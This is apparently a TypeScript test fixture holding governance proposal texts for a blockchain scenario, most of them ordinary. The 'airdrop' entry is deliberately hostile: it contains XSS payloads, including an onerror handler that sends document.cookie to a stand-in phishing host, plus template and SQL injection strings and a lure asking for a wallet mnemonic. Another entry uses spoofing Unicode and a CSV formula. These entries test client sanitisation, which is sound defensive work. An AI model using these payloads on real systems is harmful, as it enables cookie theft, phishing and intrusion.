// The texts of the scenario's proposals: plausible governance, and hostile texts that every reader must handle.

export type ProposalText = { title: string; summary: string; metadata: string }

const forum = (topic: number) => `ipfs://bafybeigdyrztdemo${String(topic).padStart(4, '0')}`

const long = Array.from(
  { length: 66 },
  (_, line) =>
    `${line + 1}. Operators shall publish, once per quarter, the uptime of node ${line + 1} and the reasons for every interruption longer than ten minutes.`,
).join('\n')

export const TEXTS = {
  constitution: {
    title: 'Adopt the first constitution of the Rollcall chain',
    summary: `## What
This proposal adopts the text linked in the metadata as the first constitution of the chain.

## Why
Delegators asked for one page that says what governance may and may not decide. The draft was open for comment for six weeks and 41 operators answered.

## If it passes
Nothing changes in the protocol. Later proposals may cite the constitution by article.`,
    metadata: forum(1),
  },
  quorum: {
    title: 'Raise the quorum from 33.4 % to 35 %',
    summary:
      'Turnout of the last votes was above 60 %. A slightly higher quorum protects delegators from decisions taken by a handful of pools during the holidays.\n\nVote YES to set `quorum` to 0.35; all other parameters stay as they are.',
    metadata: forum(2),
  },
  ambassadors: {
    title: 'Fund the ambassador programme for 2027 (1,200,000 ROLL)',
    summary:
      'Twelve regional ambassadors, monthly meetings, travel and a translation budget. Paid in one instalment from the community pool.\n\nBudget: https://example.invalid/ambassadors-2027.pdf',
    metadata: forum(3),
  },
  airdrop: {
    title:
      '✅ CLAIM YOUR 50,000 ROLL AIRDROP ➡ rol1call-claim.invalid <script>alert(document.cookie)</script>',
    summary:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: hostile on purpose
      '<h1>Congratulations!</h1><img src=x onerror="fetch(\'https://rol1call-claim.invalid/\'+document.cookie)">\n<a href="javascript:alert(1)">Claim now</a> — only the first 1,000 wallets! Enter your mnemonic to verify eligibility. {{constructor.constructor("return 1")()}} ${7*7} \'; DROP TABLE proposals; --',
    metadata: '"><svg onload=alert(1)>',
  },
  translations: {
    title: 'Set up a working group for the translation of the documentation',
    summary: 'Should the documentation be kept in more than one language? No funds are asked for.',
    // The chain refuses JSON metadata whose title and summary are not the proposal's own.
    metadata: JSON.stringify({
      title: 'Set up a working group for the translation of the documentation',
      summary:
        'Should the documentation be kept in more than one language? No funds are asked for.',
    }),
  },
  bridge: {
    title: 'Pay the bridge audit in full (900,000,000 ROLL)',
    summary:
      'Spends 900,000,000 ROLL from the community pool for a second audit of the bridge contracts. (The author mistook base units; the pool holds far less.)',
    metadata: forum(6),
  },
  mascot: {
    title: 'Make the owl the official mascot 🦉',
    summary: 'No funds. Just an owl. Needs 90 more ROLL of deposit, please help!',
    metadata: 'owl.png',
  },
  typo: {
    title: 'Increase max validators form 60 to 80',
    summary: 'Withdrawn by its author because of a typo; a corrected proposal follows.',
    metadata: forum(8),
  },
  relayers: {
    title: 'Subsidise relayers for six months',
    summary:
      'Reimburses relayer fees on the three busiest channels. **Withdrawn during the vote** after the relayers published lower figures.',
    metadata: forum(9),
  },
  patch: {
    title: 'Expedited: schedule security release v1.4.2 at height 5,000,000',
    summary:
      'Fixes a liveness bug in the mempool. The release was reviewed by two independent teams. Operators: build from the signed tag, do not upgrade early.',
    metadata: forum(10),
  },
  oracle: {
    title: 'Expedited: enable the price oracle this week',
    summary:
      'Expedited because two markets wait for it. If two thirds are not reached, the vote continues under the regular rules and everybody votes again.',
    metadata: forum(11),
  },
  vanished: {
    title: 'Second thoughts (submitted, voted on and withdrawn in one transaction)',
    summary:
      'No block ever shows this proposal in the state of the chain; only the transaction does.',
    metadata: 'gone',
  },
  council: {
    title: 'Let governance itself vote: council procedure test',
    summary:
      'When this passes, the governance account votes on this very proposal and on the treasury report, and submits a follow-up proposal of its own. All of it happens in the block that closes the vote.',
    metadata: forum(12),
  },
  followUp: {
    title: 'Follow-up by governance itself: publish the council minutes',
    summary: 'Submitted by the governance account when the council procedure test passed.',
    metadata: 'minutes',
  },
  unicode: {
    title:
      'Zugänglichkeit · Доступность · الوصول للجميع · נגישות · アクセシビリティ · 접근성 · सुलभता · 👩‍👩‍👧‍👦🏳️‍🌈 \u202eyltcerroc siht redner\u202c Z\u0351\u036b\u0343a\u0310\u0322l\u034cg\u0343o',
    summary: `Every client must show this text without breaking: combining marks (e\u0301 ≠ é), zero\u200bwidth\u200dcharacters, right-to-left \u2067عربي\u2069 isolates, a lone \u200f mark, tabs\tand\r\nline ends, quotes “„«»”, the astral plane 𝒢𝑜𝓋 𠜎, private use \ue000, noncharacter-adjacent \ufffd, a NUL written as \\u0000, emoji 🧑🏽‍🚀🫱🏻‍🫲🏿, CSV =1+1, and a <table><tr><td>table</td></tr></table>.\n\n${'ﷺ﷽'.repeat(40)}`,
    metadata: '🧾'.repeat(60),
  },
  treasury: {
    title: 'Treasury report Q3 and two parameter changes',
    summary:
      'Accepts the report, pays the accountants (2,500 ROLL) and raises `max_validators` from 60 to 70. Two messages, one vote: either both are executed or none.',
    metadata: forum(14),
  },
  ethics: {
    title: 'Advisory: should pools disclose their cloud provider?',
    summary: 'An advisory question on which the pools preferred to stay neutral.',
    metadata: forum(15),
  },
  standards: {
    title: `Operators’ reporting standard, full text, with the annexes on ${'uptime, downtime, maintenance, incidents, '.repeat(3)}and everything else`,
    summary: long,
    metadata: forum(16),
  },
  communityTax: {
    title: 'Commission floor of 5 % for all pools',
    summary:
      'Zero-commission pools cannot pay for backups. This raises `min_commission_rate` to 5 %; pools below it are lifted by the protocol.',
    metadata: forum(17),
  },
  smartAccounts: {
    title: 'Roadmap signal: smart accounts before private transfers',
    summary:
      'Two large pieces of work, one team. This vote decides which comes first.\n\n- YES: smart accounts first\n- NO: private transfers first\n- ABSTAIN: leave it to the core team',
    metadata: forum(18),
  },
  outage: {
    title: 'Expedited: compensate relayers for the November outage',
    summary:
      'Pays 40,000 ROLL to the relayers who kept packets flowing. Needs two thirds within the expedited period, or it continues as a regular vote.',
    metadata: forum(19),
  },
  hackathon: {
    title: 'Sponsor the winter hackathon',
    summary: 'Collecting deposits. Details: https://example.invalid/hackathon',
    metadata: forum(20),
  },
} as const satisfies Record<string, ProposalText>

export type ProposalKey = keyof typeof TEXTS
